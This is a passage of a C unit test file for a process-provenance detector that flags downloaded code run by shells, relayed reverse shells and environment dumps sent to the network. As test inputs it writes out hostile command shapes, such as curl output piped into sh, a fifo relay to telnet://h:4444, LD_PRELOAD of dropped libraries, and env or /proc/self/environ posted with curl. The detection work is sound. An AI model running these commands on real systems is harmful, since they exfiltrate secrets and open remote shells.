	exec_as(w, run, dest, ARGV("x"), 0, 0, NULL);
	return info_of(w, run).exe_prov;
}

/* A copy of a dropped file is one: cp, install, dd if=, cat > file. */
static void test_copy_of_drop(void **state)
{
	struct world *w = *state;
	struct bw_proc *shell = job_shell(w), *curl, *cat, *run = fork_of(w, shell);

	curl = fork_of(w, shell);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-o", "/tmp/a1", "http://x/a"), 0, 0, NULL);
	file_op(w, curl, "open-write", "/tmp/a1", NULL);
	assert_int_equal(copy_then_run(w, shell, run, "/usr/bin/install",
				       ARGV("install", "-m", "755", "/tmp/a1", "/tmp/a2"), "/tmp/a2"),
			 BW_PROV_WRITTEN | BW_PROV_NETWORK);
	assert_int_equal(copy_then_run(w, shell, run, "/usr/bin/dd",
				       ARGV("dd", "if=/tmp/a1", "of=/tmp/a3"), "/tmp/a3"),
			 BW_PROV_WRITTEN | BW_PROV_NETWORK);
	cat = fork_of(w, shell);
	exec_as(w, cat, "/usr/bin/cat", ARGV("cat", "/tmp/a1"), 0, 0, "/tmp/a4");
	exec_as(w, run, "/tmp/a4", ARGV("a4"), 0, 0, NULL);
	assert_int_equal(info_of(w, run).exe_prov, BW_PROV_WRITTEN | BW_PROV_NETWORK);
	/* a copy of a file nobody dropped is no drop */
	assert_int_equal(copy_then_run(w, shell, run, "/usr/bin/cp",
				       ARGV("cp", "/usr/bin/true", "/tmp/a5"), "/tmp/a5"), 0);
}

/* Code the environment makes a program load: a downloaded BASH_ENV, --require module, library. */
static void test_env_loads_drop(void **state)
{
	struct world *w = *state;
	struct bw_proc *shell = job_shell(w), *curl, *run = fork_of(w, shell);
	static const char *const cases[][2] = {
		{ "BASH_ENV=/tmp/env.sh", "/usr/bin/bash" },
		{ "NODE_OPTIONS=--max-old-space-size=4096 --require /tmp/hook.js", "/usr/bin/node" },
		{ "NODE_OPTIONS=--import=/tmp/hook.js", "/usr/bin/node" },
		{ "LD_PRELOAD=/usr/lib/libeatmydata.so:/tmp/lib.so", "/usr/bin/make" },
	};

	curl = fork_of(w, shell);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-O", "http://x/a"), 0, 0, NULL);
	file_op(w, curl, "open-write", "/tmp/env.sh", NULL);
	file_op(w, curl, "open-write", "/tmp/hook.js", NULL);
	file_op(w, curl, "open-write", "/tmp/lib.so", NULL);
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		exec_env(w, run, cases[i][1], cases[i][0]);
		if (info_of(w, run).exe_prov != (BW_PROV_WRITTEN | BW_PROV_NETWORK))
			fail_msg("%s: exe_prov %#x", cases[i][0], info_of(w, run).exe_prov);
	}
	/* the same names, not downloaded; a module by name */
	exec_env(w, run, "/usr/bin/bash", "BASH_ENV=/tmp/other.sh");
	assert_int_equal(info_of(w, run).exe_prov, 0);
	exec_env(w, run, "/usr/bin/node", "NODE_OPTIONS=-r ts-node/register /tmp/hook.js");
	assert_int_equal(info_of(w, run).exe_prov, 0);
}

/* A hard link of a drop is the drop under a second name, which outlives the first. */
static void test_link_of_drop(void **state)
{
	struct world *w = *state;
	struct bw_proc *shell = job_shell(w), *curl, *ln, *rm, *run = fork_of(w, shell);

	curl = fork_of(w, shell);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-o", "/tmp/.dl", "http://x/a"), 0, 0, NULL);
	file_op(w, curl, "open-write", "/tmp/.dl", NULL);
	ln = fork_of(w, shell);
	exec_as(w, ln, "/usr/bin/ln", ARGV("ln", "/tmp/.dl", "/tmp/tool"), 0, 0, NULL);
	file_op(w, ln, "link", "/tmp/.dl", "/tmp/tool");
	assert_string_equal(w->rj.dropped, "/tmp/tool");
	rm = fork_of(w, shell);
	exec_as(w, rm, "/usr/bin/rm", ARGV("rm", "/tmp/.dl"), 0, 0, NULL);
	file_op(w, rm, "unlink", "/tmp/.dl", NULL);
	exec_as(w, run, "/tmp/tool", ARGV("tool"), 0, 0, NULL);
	assert_int_equal(info_of(w, run).exe_prov, BW_PROV_WRITTEN | BW_PROV_NETWORK);
	exec_as(w, run, "/tmp/.dl", ARGV(".dl"), 0, 0, NULL);
	assert_int_equal(info_of(w, run).exe_prov, 0); /* unlinked: that name is gone */
	/* links of files nobody dropped, and a symlink (followed at exec), carry nothing */
	file_op(w, ln, "link", "/usr/bin/true", "/tmp/t2");
	assert_null(w->rj.dropped);
	file_op(w, ln, "symlink", "/tmp/t3", NULL);
	exec_as(w, run, "/tmp/t2", ARGV("t2"), 0, 0, NULL);
	assert_int_equal(info_of(w, run).exe_prov, 0);
}

/*
 * A process that connected and feeds a shell itself, through a pipe or a
 * socketpair it made (subprocess.Popen(["sh"], stdin=PIPE), node's spawn);
 * and a shell whose output a network program reads (a relay).
 */
static void test_parent_fed_and_relay(void **state)
{
	struct world *w = *state;
	struct bw_proc *shell = job_shell(w), *py, *sh, *npm, *cat, *relay;

	py = fork_of(w, shell);
	exec_as(w, py, "/usr/bin/python3.11", ARGV("python3", "agent.py"), 0, 0, NULL);
	sh = fork_of(w, py);
	exec_as(w, sh, "/usr/bin/dash", ARGV("sh"), 60, 0, NULL);
	assert_int_equal(info_of(w, sh).stdin_prov, BW_PROV_PIPE); /* it fetched nothing yet */
	connect_of(w, py, 4444, 0);
	assert_true(rejudged(w, sh));
	assert_int_equal(info_of(w, sh).stdin_prov, BW_PROV_PIPE | BW_PROV_NETWORK);
	/* node's spawn: a Unix socketpair */
	sh = fork_of(w, py);
	exec_as(w, sh, "/usr/bin/dash", ARGV("sh"), 0, 0, NULL);
	sh->stdio[0].kind = BW_STDIO_SOCKET;
	sh->stdio[0].family = AF_UNIX;
	assert_int_equal(info_of(w, sh).stdin_prov, BW_PROV_LOCAL_SOCKET | BW_PROV_NETWORK);
	/* a pipe some program writes is that program's, not the parent's */
	cat = fork_of(w, py);
	sh = fork_of(w, py);
	exec_as(w, cat, "/usr/bin/cat", ARGV("cat", "build.sh"), 0, 61, NULL);
	exec_as(w, sh, "/usr/bin/dash", ARGV("sh"), 61, 0, NULL);
	assert_int_equal(info_of(w, sh).stdin_prov, BW_PROV_PIPE);
	/* a package manager feeding its install scripts */
	npm = fork_of(w, shell);
	exec_as(w, npm, "/usr/bin/npm", ARGV("npm", "ci"), 0, 0, NULL);
	connect_of(w, npm, 443, 0);
	sh = fork_of(w, npm);
	exec_as(w, sh, "/usr/bin/dash", ARGV("sh"), 62, 0, NULL);
	assert_int_equal(info_of(w, sh).stdin_prov, BW_PROV_PIPE);

	/* cat fifo | sh -i 2>&1 | relay > fifo: the relay may start last */
	cat = fork_of(w, shell);
	sh = fork_of(w, shell);
	relay = fork_of(w, shell);
	exec_as(w, cat, "/usr/bin/cat", ARGV("cat", "/tmp/f"), 0, 63, NULL);
	exec_as(w, sh, "/usr/bin/dash", ARGV("sh", "-i"), 63, 64, NULL);
	assert_int_equal(info_of(w, sh).stdout_prov, BW_PROV_PIPE);
	exec_as(w, relay, "/usr/bin/curl", ARGV("curl", "-T", "-", "telnet://h:4444"), 64, 0,
		NULL);
	assert_true(rejudged(w, sh));
	assert_int_equal(info_of(w, sh).stdout_prov, BW_PROV_PIPE | BW_PROV_NETWORK);
	/* a relay that is no downloader by name: once it connects */
	sh = fork_of(w, shell);
	relay = fork_of(w, shell);
	exec_as(w, sh, "/usr/bin/dash", ARGV("sh"), 0, 65, NULL);
	exec_as(w, relay, "/usr/bin/python3.11", ARGV("python3", "relay.py"), 65, 0, NULL);
	assert_int_equal(info_of(w, sh).stdout_prov, BW_PROV_PIPE);
	connect_of(w, relay, 4444, 0);
	assert_true(rejudged(w, sh));
	assert_int_equal(info_of(w, sh).stdout_prov, BW_PROV_PIPE | BW_PROV_NETWORK);
}

static uint32_t prog(struct world *w, const char *exe, const char *const *argv)
{
	struct bw_proc *p = fork_of(w, NULL);

	exec_as(w, p, exe, argv, 0, 0, NULL);
	return info_of(w, p).program_from;
}

static void test_program_from(void **state)
{
	struct world *w = *state;

	assert_int_equal(prog(w, "/usr/bin/bash", ARGV("bash", "-e", "build.sh")), BW_PROG_FILE);
	assert_int_equal(prog(w, "/usr/bin/bash", ARGV("bash", "-o", "pipefail", "x.sh")),
			 BW_PROG_FILE);
	assert_int_equal(prog(w, "/usr/bin/dash", ARGV("sh", "-s")), BW_PROG_STDIN);
	assert_int_equal(prog(w, "/usr/bin/dash", ARGV("sh")), BW_PROG_STDIN);
	assert_int_equal(prog(w, "/usr/bin/bash", ARGV("bash", "-xc", "true")), BW_PROG_ARGUMENT);
	assert_int_equal(prog(w, "/usr/bin/bash", ARGV("bash", "/dev/fd/63")), BW_PROG_FD);
	assert_int_equal(prog(w, "/usr/bin/python3.11", ARGV("python3", "-m", "pip")),
			 BW_PROG_MODULE);
	assert_int_equal(prog(w, "/usr/bin/python3.11", ARGV("python3", "-")), BW_PROG_STDIN);
	assert_int_equal(prog(w, "/usr/bin/python3.11", ARGV("python3", "-W", "ignore", "s.py")),
			 BW_PROG_FILE);
	assert_int_equal(prog(w, "/usr/bin/perl", ARGV("perl", "-e", "print 1")), BW_PROG_ARGUMENT);
	assert_int_equal(prog(w, "/usr/bin/node", ARGV("node")), BW_PROG_STDIN);
	assert_int_equal(prog(w, "/usr/bin/node", ARGV("node", "-e", "1")), BW_PROG_ARGUMENT);
	assert_int_equal(prog(w, "/bin/busybox", ARGV("sh", "-c", "x")), BW_PROG_ARGUMENT);
	assert_int_equal(prog(w, "/usr/bin/make", ARGV("make", "-j2")), 0);
	/* a -c after the script is the script's own argument */
	assert_int_equal(prog(w, "/usr/bin/bash", ARGV("bash", "/shims/python3", "-c", "x")),
			 BW_PROG_FILE);
}

/* `busybox sh`: the applet in argv[1] is the program, its operands come after it. */
static void test_busybox_applet(void **state)
{
	struct world *w = *state;
	struct bw_proc *shell = fork_of(w, NULL), *dec, *sh;

	assert_int_equal(prog(w, "/usr/bin/busybox", ARGV("busybox", "sh")), BW_PROG_STDIN);
	assert_int_equal(prog(w, "/usr/bin/busybox", ARGV("busybox", "sh", "-c", "id")),
			 BW_PROG_ARGUMENT);
	assert_int_equal(prog(w, "/usr/bin/busybox", ARGV("busybox", "ash", "run.sh")),
			 BW_PROG_FILE);
	assert_int_equal(prog(w, "/usr/bin/busybox", ARGV("busybox", "--list")), 0);
	assert_int_equal(prog(w, "/usr/bin/busybox", ARGV("busybox", "ls", "-l")), 0);

	/* busybox base64 -d | busybox sh */
	exec_as(w, shell, "/usr/bin/bash", ARGV("bash", "x.sh"), 0, 0, NULL);
	dec = fork_of(w, shell);
	sh = fork_of(w, shell);
	exec_as(w, dec, "/usr/bin/busybox", ARGV("busybox", "base64", "-d"), 0, 7, NULL);
	exec_as(w, sh, "/usr/bin/busybox", ARGV("busybox", "sh"), 7, 0, NULL);
	assert_int_equal(info_of(w, sh).stdin_prov, BW_PROV_PIPE | BW_PROV_DECODER);
}

/*
 * A process that talked to the network, then exec'd an interpreter with an
 * inline program, handed it what it fetched (os.execvp("sh", ["sh", "-c",
 * body])). One that connects only after its exec did not.
 */
static void test_connected_then_exec(void **state)
{
	struct world *w = *state;
	struct bw_proc *shell = job_shell(w), *py, *plain, *later;

	py = fork_of(w, shell);
	exec_as(w, py, "/usr/bin/python3.11", ARGV("python3", "get.py"), 0, 0, NULL);
	connect_of(w, py, 443, 0);
	exec_as(w, py, "/usr/bin/dash", ARGV("sh", "-c", "id"), 0, 0, NULL);
	assert_int_equal(info_of(w, py).script_prov, BW_PROV_NETWORK);
	/* and the program after that: the process still held the download */
	exec_as(w, py, "/usr/bin/bash", ARGV("bash", "-c", "id"), 0, 0, NULL);
	assert_int_equal(info_of(w, py).script_prov, BW_PROV_NETWORK);
	/* its program's own output is not network data any more: a new program */
	assert_int_equal(py->prov & BW_PROV_NETWORK, 0);

	plain = fork_of(w, shell);
	exec_as(w, plain, "/usr/bin/python3.11", ARGV("python3", "gen.py"), 0, 0, NULL);
	exec_as(w, plain, "/usr/bin/dash", ARGV("sh", "-c", "id"), 0, 0, NULL);
	assert_int_equal(info_of(w, plain).script_prov, 0);

	later = fork_of(w, shell);
	exec_as(w, later, "/usr/bin/bash", ARGV("bash", "-c", "exec 3<>/dev/tcp/h/80"), 0, 0,
		NULL);
	connect_of(w, later, 80, 0);
	assert_int_equal(info_of(w, later).script_prov, 0);
}

/* `python3 fetch.py > file`: the file becomes a download when its writer connects. */
static void test_stdout_file_then_connect(void **state)
{
	struct world *w = *state;
	struct bw_proc *shell = job_shell(w), *py, *gen, *run;

	py = fork_of(w, shell);
	exec_as(w, py, "/usr/bin/python3.11", ARGV("python3", "fetch.py"), 0, 0, "/tmp/i.sh");
	run = fork_of(w, shell);
	exec_as(w, run, "/usr/bin/dash", ARGV("sh", "/tmp/i.sh"), 0, 0, NULL);
	assert_int_equal(info_of(w, run).exe_prov, 0); /* not yet: no connect */
	connect_of(w, py, 443, 0);
	assert_string_equal(w->rj.dropped, "/tmp/i.sh");
	assert_int_equal(w->rj.dropped_tags, BW_PROV_NETWORK | BW_PROV_WRITTEN);
	exec_as(w, run, "/usr/bin/dash", ARGV("sh", "/tmp/i.sh"), 0, 0, NULL);
	assert_int_equal(info_of(w, run).exe_prov, BW_PROV_WRITTEN | BW_PROV_NETWORK);

	/* a generator that never connects leaves a plain file */
	gen = fork_of(w, shell);
	exec_as(w, gen, "/usr/bin/python3.11", ARGV("python3", "gen.py"), 0, 0, "/tmp/g.sh");
	exec_as(w, run, "/usr/bin/dash", ARGV("sh", "/tmp/g.sh"), 0, 0, NULL);
	assert_int_equal(info_of(w, run).exe_prov, 0);
	/* nor does a name lookup make it one */
	connect_of(w, gen, 53, 0);
	assert_null(w->rj.dropped);
}

/* A fork that ran no program exits, having written on fd 1 (its exit record's stdout_pipe). */
static void exit_writing(struct world *w, struct bw_proc *p, uint64_t pipe)
{
	prov_on_exit(&w->pv, &w->t, p, pipe, &w->rj);
}

/*
 * `x=$(curl ...); echo "$x" | sh`, and a while-read loop over bash's own
 * /dev/tcp socket: the pipe's writer is a fork of the shell that ran no
 * program, and what it wrote is what the shell held.
 */
static void test_shell_memory_writer(void **state)
{
	struct world *w = *state;
	struct bw_proc *shell = job_shell(w), *curl, *echo, *sh, *plain, *tcp, *loop;

	curl = fork_of(w, shell);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-s", "http://x/i.sh"), 0, 40, NULL);
	/* the writer done before its reader's exec */
	echo = fork_of(w, shell);
	sh = fork_of(w, shell);
	exit_writing(w, echo, 41);
	exec_as(w, sh, "/usr/bin/dash", ARGV("sh"), 41, 0, NULL);
	assert_int_equal(info_of(w, sh).stdin_prov, BW_PROV_PIPE | BW_PROV_NETWORK);
	/* the reader first: judged again when the writer's exit says so */
	sh = fork_of(w, shell);
	exec_as(w, sh, "/usr/bin/dash", ARGV("sh"), 42, 0, NULL);
	assert_int_equal(info_of(w, sh).stdin_prov, BW_PROV_PIPE);
	echo = fork_of(w, shell);
	exit_writing(w, echo, 42);
	assert_true(rejudged(w, sh));
	assert_int_equal(info_of(w, sh).stdin_prov, BW_PROV_PIPE | BW_PROV_NETWORK);
	/* a writer that ran a program is judged by its program, not here */
	sh = fork_of(w, shell);
	exec_as(w, sh, "/usr/bin/dash", ARGV("sh"), 43, 0, NULL);
	echo = fork_of(w, shell);
	exec_as(w, echo, "/usr/bin/cat", ARGV("cat", "build.sh"), 0, 43, NULL);
	exit_writing(w, echo, 43);
	assert_int_equal(info_of(w, sh).stdin_prov, BW_PROV_PIPE);

	/* a shell that fetched nothing: its forks' output is plain, and no pipe is kept */
	plain = fork_of(w, NULL);
	exec_as(w, plain, "/usr/bin/bash", ARGV("bash", "configure"), 0, 0, NULL);
	echo = fork_of(w, plain);
	exit_writing(w, echo, 44);
	sh = fork_of(w, plain);
	exec_as(w, sh, "/usr/bin/dash", ARGV("sh"), 44, 0, NULL);
	assert_int_equal(info_of(w, sh).stdin_prov, BW_PROV_PIPE);

	/* bash's own connect (/dev/tcp), read by a subshell's loop; a name lookup is not one */
	tcp = fork_of(w, NULL);
	exec_as(w, tcp, "/usr/bin/bash", ARGV("bash", "fetch.sh"), 0, 0, NULL);
	connect_of(w, tcp, 53, 0);
	loop = fork_of(w, tcp);
	sh = fork_of(w, tcp);
	exec_as(w, sh, "/usr/bin/dash", ARGV("sh"), 45, 0, NULL);
	exit_writing(w, loop, 45);
	assert_int_equal(info_of(w, sh).stdin_prov, BW_PROV_PIPE);
	connect_of(w, tcp, 80, 0);
	loop = fork_of(w, tcp);
	sh = fork_of(w, tcp);
	exec_as(w, sh, "/usr/bin/dash", ARGV("sh"), 46, 0, NULL);
	exit_writing(w, fork_of(w, loop), 46); /* a subshell of the subshell */
	assert_int_equal(info_of(w, sh).stdin_prov, BW_PROV_PIPE | BW_PROV_NETWORK);
	/* `fetch | sh` with fetch() a function: the subshell connects itself */
	plain = fork_of(w, NULL);
	exec_as(w, plain, "/usr/bin/bash", ARGV("bash", "get.sh"), 0, 0, NULL);
	loop = fork_of(w, plain);
	sh = fork_of(w, plain);
	exec_as(w, sh, "/usr/bin/dash", ARGV("sh"), 47, 0, NULL);
	connect_of(w, loop, 80, 0);
	exit_writing(w, loop, 47);
	assert_int_equal(info_of(w, sh).stdin_prov, BW_PROV_PIPE | BW_PROV_NETWORK);
}

/* A dump of the environment handed to a program that talks to the network. */
static void test_environment_sent(void **state)
{
	struct world *w = *state;
	struct bw_proc *shell = job_shell(w), *env, *curl, *py, *filter, *sort;

	/* env | curl -d @- URL, either start order */
	env = fork_of(w, shell);
	curl = fork_of(w, shell);
	exec_as(w, env, "/usr/bin/env", ARGV("env"), 0, 50, NULL);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-d", "@-", "http://x/c"), 50, 0, NULL);
	assert_int_equal(info_of(w, curl).sends_prov, BW_PROV_ENVIRONMENT);
	curl = fork_of(w, shell);
	env = fork_of(w, shell);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-T", "-", "http://x/c"), 51, 0, NULL);
	assert_int_equal(info_of(w, curl).sends_prov, 0);
	exec_as(w, env, "/usr/bin/printenv", ARGV("printenv"), 0, 51, NULL);
	assert_true(rejudged(w, curl));
	assert_int_equal(info_of(w, curl).sends_prov, BW_PROV_ENVIRONMENT);

	/* cat /proc/self/environ | base64 | python3 post.py: sent once it connects */
	env = fork_of(w, shell);
	filter = fork_of(w, shell);
	py = fork_of(w, shell);
	exec_as(w, env, "/usr/bin/cat", ARGV("cat", "/proc/self/environ"), 0, 52, NULL);
	exec_as(w, filter, "/usr/bin/base64", ARGV("base64", "-w0"), 52, 53, NULL);
	exec_as(w, py, "/usr/bin/python3.11", ARGV("python3", "post.py"), 53, 0, NULL);
	assert_int_equal(info_of(w, py).sends_prov, 0); /* no network yet */
	connect_of(w, py, 443, 0);
	assert_true(rejudged(w, py));
	assert_int_equal(info_of(w, py).sends_prov, BW_PROV_ENVIRONMENT);

	/* env > e.txt, then the file handed over by name or on stdin */
	env = fork_of(w, shell);
	exec_as(w, env, "/usr/bin/env", ARGV("env"), 0, 0, "/tmp/ci/e.txt");
	curl = fork_of(w, shell);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-F", "f=@/tmp/ci/e.txt", "http://x/c"), 0, 0,
		NULL);
	assert_int_equal(info_of(w, curl).sends_prov, BW_PROV_ENVIRONMENT);
	curl->cwd = refstr_new("/tmp/ci");
	exec_as(w, curl, "/usr/bin/wget", ARGV("wget", "--post-file=e.txt", "http://x/c"), 0, 0, NULL);
	assert_int_equal(info_of(w, curl).sends_prov, BW_PROV_ENVIRONMENT);
	exec_io(w, curl, "/usr/bin/curl", ARGV("curl", "--data-binary", "@-", "http://x/c"), 0, 0,
		"/tmp/ci/e.txt", NULL);
	assert_int_equal(info_of(w, curl).sends_prov, BW_PROV_ENVIRONMENT);
	/* another file, a name that only ends like it, a name from another directory */
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-F", "f=@/tmp/ci/build.log", "http://x/c"), 0,
		0, NULL);
	assert_int_equal(info_of(w, curl).sends_prov, 0);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-F", "f=@note.txt", "http://x/c"), 0, 0, NULL);
	assert_int_equal(info_of(w, curl).sends_prov, 0);
	refstr_put(curl->cwd);
	curl->cwd = refstr_new("/src");
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-F", "f=@e.txt", "http://x/c"), 0, 0, NULL);
	assert_int_equal(info_of(w, curl).sends_prov, 0);
	/* printenv | sort > s.txt, the filter started first: the file is a dump once printenv runs */
	sort = fork_of(w, shell);
	env = fork_of(w, shell);
	exec_io(w, sort, "/usr/bin/sort", ARGV("sort"), 80, 0, NULL, "/tmp/ci/s.txt");
	exec_as(w, env, "/usr/bin/printenv", ARGV("printenv"), 0, 80, NULL);
	curl = fork_of(w, shell);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-T", "/tmp/ci/s.txt", "http://x/c"), 0, 0,
		NULL);
	assert_int_equal(info_of(w, curl).sends_prov, BW_PROV_ENVIRONMENT);
	/* a script given the path sends it once it connects */
	py = fork_of(w, shell);
	exec_as(w, py, "/usr/bin/python3.11", ARGV("python3", "post.py", "/tmp/ci/e.txt"), 0, 0, NULL);
	assert_int_equal(info_of(w, py).sends_prov, 0);
	connect_of(w, py, 443, 0);
	assert_true(rejudged(w, py));
	assert_int_equal(info_of(w, py).sends_prov, BW_PROV_ENVIRONMENT);

	/* curl -d "$(env | base64)" URL: captured right before curl starts */
	filter = fork_of(w, shell);
	exec_as(w, filter, "/usr/bin/env", ARGV("env", "-0"), 0, 54, NULL);
	curl = fork_of(w, shell);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-d", "x", "http://x/c"), 0, 0, NULL);
	assert_int_equal(info_of(w, curl).sends_prov, BW_PROV_ENVIRONMENT);

	/* curl -d @<(env) URL: curl may start before env */
	env = fork_of(w, shell);
	curl = fork_of(w, shell);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-d", "@/dev/fd/63", "http://x/c"), 0, 0,
		NULL);
	assert_int_equal(info_of(w, curl).sends_prov, 0);
	exec_as(w, env, "/usr/bin/env", ARGV("env"), 0, 58, NULL);
	assert_true(rejudged(w, curl));
	assert_int_equal(info_of(w, curl).sends_prov, BW_PROV_ENVIRONMENT);

	/* not a dump: a command to run, a variable named; not sent: sort */
	env = fork_of(w, shell);
	curl = fork_of(w, shell);
	exec_as(w, env, "/usr/bin/env", ARGV("env", "-u", "HOME", "FOO=1", "make"), 0, 55, NULL);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-d", "@-", "http://x/c"), 55, 0, NULL);
	assert_int_equal(info_of(w, curl).sends_prov, 0);
	env = fork_of(w, shell);
	curl = fork_of(w, shell);
	exec_as(w, env, "/usr/bin/printenv", ARGV("printenv", "HOME"), 0, 56, NULL);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-d", "@-", "http://x/c"), 56, 0, NULL);
	assert_int_equal(info_of(w, curl).sends_prov, 0);
	env = fork_of(w, shell);
	sort = fork_of(w, shell);
	exec_as(w, env, "/usr/bin/env", ARGV("env", "-u", "HOME"), 0, 57, NULL);
	exec_as(w, sort, "/usr/bin/sort", ARGV("sort"), 57, 0, NULL);
	assert_int_equal(info_of(w, sort).stdin_prov, BW_PROV_PIPE | BW_PROV_ENVIRONMENT);
	assert_int_equal(info_of(w, sort).sends_prov, 0);

	/* curl given an environ file itself; env | xargs -I{} curl -d {} URL */
	curl = fork_of(w, shell);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-d", "@/proc/self/environ", "http://x/c"), 0,
		0, NULL);
	assert_int_equal(info_of(w, curl).sends_prov, BW_PROV_ENVIRONMENT);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "--data-binary", "@/proc/self/status", "http://x"),
		0, 0, NULL);
	assert_int_equal(info_of(w, curl).sends_prov, 0);
	env = fork_of(w, shell);
	filter = fork_of(w, shell);
	exec_as(w, env, "/usr/bin/env", ARGV("env", "-0"), 0, 60, NULL);
	exec_as(w, filter, "/usr/bin/xargs", ARGV("xargs", "-0", "-I{}", "curl", "-d", "{}", "http://x"),
		60, 0, NULL);
	curl = fork_of(w, filter);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-d", "HOME=/root", "http://x"), 0, 0, NULL);
	assert_int_equal(info_of(w, curl).sends_prov, BW_PROV_ENVIRONMENT);
	/* curl URL | xargs -0 sh -c: the inline program is what xargs read */
	curl = fork_of(w, shell);
	filter = fork_of(w, shell);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-s", "http://x/i.sh"), 0, 61, NULL);
	exec_as(w, filter, "/usr/bin/xargs", ARGV("xargs", "-0", "sh", "-c"), 61, 0, NULL);
	env = fork_of(w, filter);
	exec_as(w, env, "/usr/bin/dash", ARGV("sh", "-c", "echo pwned"), 0, 0, NULL);
	assert_int_equal(info_of(w, env).script_prov, BW_PROV_NETWORK);
	filter = fork_of(w, shell);
	exec_as(w, filter, "/usr/bin/xargs", ARGV("xargs", "-n1", "curl", "-O"), 0, 0, NULL);
	curl = fork_of(w, filter);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-O", "http://x/a.tgz"), 0, 0, NULL);
	assert_int_equal(info_of(w, curl).sends_prov, 0);

	/* env > /dev/tcp/HOST/PORT, and through a filter; ls there is no dump */
	env = fork_of(w, shell);
	exec_as(w, env, "/usr/bin/env", ARGV("env"), 0, 0, NULL);
	env->stdio[1].kind = BW_STDIO_SOCKET;
	env->stdio[1].family = AF_INET;
	assert_int_equal(info_of(w, env).sends_prov, BW_PROV_ENVIRONMENT);
	filter = fork_of(w, shell);
	env = fork_of(w, shell);
	exec_as(w, filter, "/usr/bin/base64", ARGV("base64", "-w0"), 59, 0, NULL);
	filter->stdio[1].kind = BW_STDIO_SOCKET;
	filter->stdio[1].family = AF_INET6;
	assert_int_equal(info_of(w, filter).sends_prov, 0);
	exec_as(w, env, "/usr/bin/printenv", ARGV("printenv"), 0, 59, NULL);
	assert_true(rejudged(w, filter));
	assert_int_equal(info_of(w, filter).sends_prov, BW_PROV_ENVIRONMENT);
	sort = fork_of(w, shell);
	exec_as(w, sort, "/usr/bin/ls", ARGV("ls", "-l"), 0, 0, NULL);
	sort->stdio[1].kind = BW_STDIO_SOCKET;
	sort->stdio[1].family = AF_INET;
	assert_int_equal(info_of(w, sort).sends_prov, 0);
}

/* A shell that sources what its child downloaded: judged again when the file is written. */
static void test_sourced_download(void **state)
{
	struct world *w = *state;
	struct bw_proc *shell = job_shell(w), *sh, *curl;

	sh = fork_of(w, shell);
	exec_as(w, sh, "/usr/bin/bash",
		ARGV("bash", "-c", "curl -s -o /tmp/ci/env.sh http://x/e; . /tmp/ci/env.sh"), 0, 0,
		NULL);
	curl = fork_of(w, sh);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-s", "-o", "/tmp/ci/env.sh", "http://x/e"),
		0, 0, NULL);
	assert_int_equal(info_of(w, sh).script_prov, 0);
	file_op(w, curl, "open-write", "/tmp/ci/env.sh", NULL);
	assert_true(rejudged(w, sh));
	assert_int_equal(info_of(w, sh).script_prov, BW_PROV_NETWORK);
	/* the same download, sourced by nobody */
	sh = fork_of(w, shell);
	exec_as(w, sh, "/usr/bin/bash",
		ARGV("bash", "-c", "curl -s -o /tmp/ci/tool.tgz http://x/t; tar xzf /tmp/ci/tool.tgz"),
		0, 0, NULL);
	curl = fork_of(w, sh);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-s", "-o", "/tmp/ci/tool.tgz", "http://x/t"),
		0, 0, NULL);
	file_op(w, curl, "open-write", "/tmp/ci/tool.tgz", NULL);
	assert_int_equal(info_of(w, sh).script_prov, 0);
}

/* A shell builtin (export -p, declare -x, set) dumping the environment into a network program. */
static void test_builtin_env_sent(void **state)
{
	struct world *w = *state;
	struct bw_proc *shell, *sh, *curl, *sub, *py;
	char dir[] = "/tmp/bw-prov-XXXXXX", path[64];

	/* export -p | curl: the writer is a subshell that never execs */
	shell = job_shell(w);
	sh = fork_of(w, shell);
	exec_as(w, sh, "/usr/bin/bash",
		ARGV("bash", "-c", "export -p | curl -s --data-binary @- http://x/c"), 0, 0, NULL);
	sub = fork_of(w, sh);
	curl = fork_of(w, sh);
	(void)sub;
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-s", "--data-binary", "@-", "http://x/c"), 70,
		0, NULL);
	assert_int_equal(info_of(w, curl).sends_prov, BW_PROV_ENVIRONMENT);
	/* in a script file, through a variable, curl started from a subshell */
	temp_script(dir, path, sizeof(path), "report.sh",
		    "#!/bin/bash\nd=$(declare -x | base64 -w0)\n( cd /tmp && curl -d \"x=$d\" http://x ) &\n");
	sh = fork_of(w, shell);
	exec_as(w, sh, "/usr/bin/bash", ARGV("bash", path), 0, 0, NULL);
	sub = fork_of(w, sh);
	curl = fork_of(w, sub);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-d", "x=ZGVjbGFyZQ==", "http://x"), 0, 0, NULL);
	assert_int_equal(info_of(w, curl).sends_prov, BW_PROV_ENVIRONMENT);
	unlink(path);
	rmdir(dir);
	/* the same shell sending something else; a program that sends nothing */
	sh = fork_of(w, shell);
	exec_as(w, sh, "/usr/bin/bash",
		ARGV("bash", "-c", "export -p > env.txt; curl -s -o x.tgz http://x/x.tgz"), 0, 0, NULL);
	curl = fork_of(w, sh);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-s", "-o", "x.tgz", "http://x/x.tgz"), 0, 0,
		NULL);
	assert_int_equal(info_of(w, curl).sends_prov, 0);
	sh = fork_of(w, shell);
